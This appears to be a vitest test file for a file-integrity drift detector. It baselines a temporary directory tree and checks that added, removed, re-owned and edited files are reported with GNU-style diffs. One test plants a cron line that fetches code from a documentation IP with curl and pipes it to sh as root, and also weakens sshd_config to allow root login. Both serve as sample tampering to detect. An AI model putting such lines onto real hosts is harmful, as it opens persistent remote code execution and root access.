import { execFileSync, spawnSync } from "node:child_process";
import {
  chmodSync,
  chownSync,
  cpSync,
  mkdirSync,
  readFileSync,
  rmSync,
  statSync,
  symlinkSync,
  unlinkSync,
  utimesSync,
  writeFileSync,
} from "node:fs";
import { join } from "node:path";
import { beforeEach, describe, expect, it } from "vitest";
import { driftModule } from "../../agent/modules/drift/index.js";
import { silentLogger } from "../../common/mod.js";
import { DriftParams, type DriftResult } from "../../proto/api.js";
import { tempDir } from "../helpers/fleet.js";

// Baselines and drift on a tree made here: every kind of change, exclusions,
// limits, hash reuse, and diffs checked against GNU diff -u.

let root: string;
let state: string;

async function drift(p: Partial<DriftParams>): Promise<DriftResult> {
  const params = DriftParams.fromPartial(p);
  driftModule.check(params);
  return (
    await driftModule.run(params, {
      signal: new AbortController().signal,
      log: silentLogger,
      stateDir: state,
    })
  ).result;
}

const sshdBefore = "Port 22\nPermitRootLogin no\nPasswordAuthentication no\nX11Forwarding no\n";
const sshdAfter =
  "Port 22\nPermitRootLogin yes\nPasswordAuthentication no\nX11Forwarding no\nAllowUsers eve\n";

beforeEach(() => {
  root = tempDir("dragnet-drift-");
  state = tempDir("dragnet-drift-state-");
  const files: Record<string, string> = {
    "ssh/sshd_config": sshdBefore,
    "cron.d/backup": "0 3 * * * root /usr/local/bin/backup\n",
    "cron.d/old": "0 4 * * * root /bin/true\n",
    profile: "export PATH=/usr/bin\n",
    "become-dir": "was a file\n",
    "deep/a/b/c/leaf.conf": "leaf\n",
    "cache/skip.me": "noise\n",
  };
  for (const [rel, content] of Object.entries(files)) {
    mkdirSync(join(root, rel, ".."), { recursive: true });
    writeFileSync(join(root, rel), content);
  }
  symlinkSync("/usr/bin/true", join(root, "link"));
});

describe("drift", () => {
  it("reports exactly the changes made since the baseline, each with what changed", async () => {
    const base = await drift({ mode: "baseline", paths: [root], excludes: ["/cache(/|$)"] });
    expect(base.entries).toBe(
      Number(
        execFileSync("sh", ["-c", `find '${root}' -path '*/cache' -prune -o -print | wc -l`], {
          encoding: "utf8",
        }),
      ),
    );
    writeFileSync(join(root, "ssh/sshd_config"), sshdAfter);
    writeFileSync(join(root, "cron.d/evil"), "* * * * * root curl -s http://203.0.113.7/x | sh\n");
    unlinkSync(join(root, "cron.d/old"));
    chmodSync(join(root, "profile"), 0o666);
    chownSync(join(root, "deep/a/b/c/leaf.conf"), 1234, 1234);
    unlinkSync(join(root, "link"));
    symlinkSync("/usr/bin/false", join(root, "link"));
    rmSync(join(root, "become-dir"));
    mkdirSync(join(root, "become-dir"));
    writeFileSync(join(root, "cache/skip.me"), "changed but excluded\n");

    const r = await drift({ mode: "check" });
    expect(r.changes.map((c) => [c.path.slice(root.length), c.kind, c.what])).toEqual([
      ["/become-dir", "changed", ["type"]],
      ["/cron.d/evil", "added", []],
      ["/cron.d/old", "removed", []],
      ["/deep/a/b/c/leaf.conf", "changed", ["owner"]],
      ["/link", "changed", ["target"]],
      ["/profile", "changed", ["mode"]],
      ["/ssh/sshd_config", "changed", ["content"]],
    ]);
    const link = r.changes.find((c) => c.path.endsWith("/link"))!;
    expect([link.before!.target, link.after!.target]).toEqual(["/usr/bin/true", "/usr/bin/false"]);
    const evil = r.changes.find((c) => c.path.endsWith("/evil"))!;
    expect(evil.after!.sha256).toBe(
      execFileSync("sha256sum", [join(root, "cron.d/evil")], { encoding: "utf8" }).split(" ")[0],
    );
    // A new or deleted text file shows its whole text: what the new cron job runs, what the old one did.
    expect(evil.diff).toContain("--- /dev/null");
    expect(evil.diff).toContain("+* * * * * root curl -s http://203.0.113.7/x | sh");
    expect(r.changes.find((c) => c.path.endsWith("/old"))!.diff).toContain("-0 4 * * * root /bin/true");
  });

  it("keeps one answer's diffs within 512 KiB: past that they are left out, saying so", async () => {
    await drift({ mode: "baseline", paths: [root] });
    mkdirSync(join(root, "many"));
    // 60 files of 60 KiB of text: 3.6 MB of diffs if all were kept.
    for (let i = 0; i < 60; i++) writeFileSync(join(root, `many/f${i}`), `${"x".repeat(99)}\n`.repeat(600));
    const r = await drift({ mode: "check" });
    const diffs = r.changes.filter((c) => c.path.includes("/many/f"));
    expect(diffs).toHaveLength(60);
    const total = diffs.reduce((n, c) => n + c.diff.length, 0);
    expect(total).toBeLessThanOrEqual(512 * 1024 + 60 * 100);
    expect(diffs[0]!.diff).toContain("[diff cut at 16384 bytes]");
    expect(diffs.at(-1)!.diff).toBe("[diff left out: this answer's diffs passed 524288 bytes]\n");
  });

  it("shows a text file's change as the hunks GNU diff -u gives", async () => {
    await drift({ mode: "baseline", paths: [root] });
    const old = join(tempDir("dragnet-drift-old-"), "sshd_config");
    writeFileSync(old, sshdBefore);
    writeFileSync(join(root, "ssh/sshd_config"), sshdAfter);
    const r = await drift({ mode: "check" });
    const ours = r.changes[0]!.diff.split("\n");
    const gnu = spawnSync("diff", ["-u", old, join(root, "ssh/sshd_config")], {
      encoding: "utf8",
    }).stdout.split("\n");
    const hunks = (lines: string[]) =>
      lines.slice(lines.findIndex((l) => l.startsWith("@@"))).filter(Boolean);
    expect(hunks(ours)).toEqual(hunks(gnu));
    expect(hunks(ours)).toContain("+PermitRootLogin yes");
  });

  it("reuses hashes of files whose size, mtime and ctime are unchanged; --rehash hashes them all", async () => {
    const base = await drift({ mode: "baseline", paths: [root] });
    const quiet = await drift({ mode: "check" });
    expect(quiet.changes).toEqual([]);
    const files = Number(execFileSync("sh", ["-c", `find '${root}' -type f | wc -l`], { encoding: "utf8" }));
    expect(quiet.hashesReused).toBe(files);
    expect((await drift({ mode: "check", rehash: true })).hashesReused).toBe(0);
    expect(base.entries).toBe(quiet.entries);
  });

  it("an edit that puts the old size and mtime back is still found (ctime cannot be put back)", async () => {
    await drift({ mode: "baseline", paths: [root] });
    const file = join(root, "profile");
    const st = statSync(file);
    await new Promise((r) => setTimeout(r, 20));
    writeFileSync(file, "export PATH=/tmp/x\n".padEnd(st.size - 1, " ").concat("\n"));
    utimesSync(file, st.atime, st.mtime);
    expect(statSync(file).size).toBe(st.size);
    const r = await drift({ mode: "check" });
    expect(r.changes.map((c) => [c.path, c.what])).toEqual([[file, ["content"]]]);
  });

  it("limits entries and says how many were skipped; lists baselines; a missing one is a clear error", async () => {
    const small = await drift({ mode: "baseline", name: "small", paths: [root], maxEntries: 3 });
    expect(small.entries).toBe(3);
    expect(small.skipped).toBeGreaterThan(0);
    await drift({ mode: "baseline", name: "etc-copy", paths: [root] });
    const list = await drift({ mode: "list" });
    expect(list.baselines.map((b) => [b.name, b.paths])).toEqual([
      ["etc-copy", [root]],
      ["small", [root]],
    ]);
    expect(
      list.baselines.every((b) => b.bytes === statSync(join(state, "drift", `${b.name}.json`)).size),
    ).toBe(true);
    expect(statSync(join(state, "drift", "small.json")).mode & 0o777).toBe(0o600);
    await expect(drift({ mode: "check", name: "nope" })).rejects.toThrow(
      /no baseline named "nope" on this agent/,
    );
  });

  it("a baseline of a copy of /etc finds nothing changed, then exactly the one edit", async () => {
    const copy = join(tempDir("dragnet-drift-etc-"), "etc");
    cpSync("/etc", copy, { recursive: true, verbatimSymlinks: true, errorOnExist: false, force: true });
    await drift({ mode: "baseline", name: "etc", paths: [copy] });
    expect((await drift({ mode: "check", name: "etc" })).changes).toEqual([]);
    writeFileSync(join(copy, "hostname"), `${readFileSync(join(copy, "hostname"), "utf8")}evil\n`);
    const r = await drift({ mode: "check", name: "etc" });
    expect(r.changes.map((c) => [c.path, c.kind, c.what])).toEqual([
      [join(copy, "hostname"), "changed", ["content"]],
    ]);
    expect(r.changes[0]!.diff).toContain("+evil");
  });

  it("refuses bad parameters before touching anything", () => {
    const refuse = (p: Partial<DriftParams>) => () => driftModule.check(DriftParams.fromPartial(p));
    expect(refuse({ mode: "baseline" })).toThrow(/needs at least one path/);
    expect(refuse({ mode: "baseline", paths: ["etc"] })).toThrow(/not absolute/);
    expect(refuse({ mode: "check", name: "../../x" })).toThrow(/may hold only letters/);
    expect(refuse({ mode: "destroy" })).toThrow(
      /mode is one of baseline, check, list, watch_start, watch_list, watch_stop, not "destroy"/,
    );
    expect(refuse({ mode: "baseline", paths: ["/etc"], excludes: ["("] })).toThrow(/exclude regex/);
  });
});
